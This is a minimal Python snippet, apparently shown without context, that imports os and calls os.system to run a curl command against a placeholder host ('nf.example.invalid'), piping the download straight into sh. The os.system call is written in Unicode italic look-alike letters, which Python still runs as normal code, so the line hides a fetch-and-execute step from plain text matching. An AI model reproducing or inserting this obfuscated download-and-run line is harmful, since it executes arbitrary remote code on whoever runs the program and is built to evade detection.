import os
𝘰𝘴.𝘴𝘺𝘴𝘵𝘦𝘮("curl http://nf.example.invalid/a | sh")
